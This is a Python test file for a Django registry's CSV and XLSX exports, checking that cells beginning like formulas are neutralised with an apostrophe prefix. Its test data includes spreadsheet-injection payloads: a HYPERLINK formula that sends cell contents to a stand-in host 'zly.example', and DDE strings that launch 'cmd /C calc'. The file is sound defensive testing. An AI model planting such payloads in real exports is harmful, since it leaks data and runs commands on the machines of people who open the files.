"""Exports never hand a spreadsheet a formula taken from data (CSV and XLSX alike)."""

from __future__ import annotations

import csv
import io
import zipfile
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ksr.core.exports import csv_response, neutralise, xlsx_response
from ksr.registry.choices import OrganisationKind
from ksr.testing import OrganisationFactory, unit

DANGEROUS = [
    '=HYPERLINK("http://zly.example/?d="&A1;"Kliknij")',
    "+48 22 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = [("Nazwa", lambda o: o.name), ("Liczba", lambda o: o.n)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_neutralise_prefixes_a_formula_start(text):
    assert neutralise(text) == "'" + text
    assert neutralise("Klub =1") == "Klub =1"


def _objects():
    return [SimpleNamespace(name=text, n=-3) for text in DANGEROUS]


def test_csv_cells_are_neutralised():
    body = csv_response(_objects(), COLUMNS, "x").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))[1:]
    assert [r[0] for r in rows] == ["'" + t for t in DANGEROUS]
    assert all(r[1] == "-3" for r in rows)  # a number stays a number


def test_xlsx_stores_no_formula_from_data():
    content = xlsx_response(_objects(), COLUMNS, "x").content
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert [n.replace("\n", "\r") for n in names[-1:]] == ["'\r=1+1"]  # XML reads \r back as \n
    assert names[:-1] == ["'" + t for t in DANGEROUS[:-1]]
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))


@pytest.mark.django_db
def test_an_organisation_named_like_a_formula_is_a_string_in_the_registry_export(cast, login):
    name = '=HYPERLINK("http://zly.example","Klub")'
    OrganisationFactory(name=name, kind=OrganisationKind.KIS, seat=unit("1465011"))
    client = login(cast.admin)
    url = reverse("registry:organisation_list")
    content = client.get(url, {"format": "xlsx"}).content
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'=") for c in cells)
    text = client.get(url, {"format": "csv"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text and not text.startswith("=")
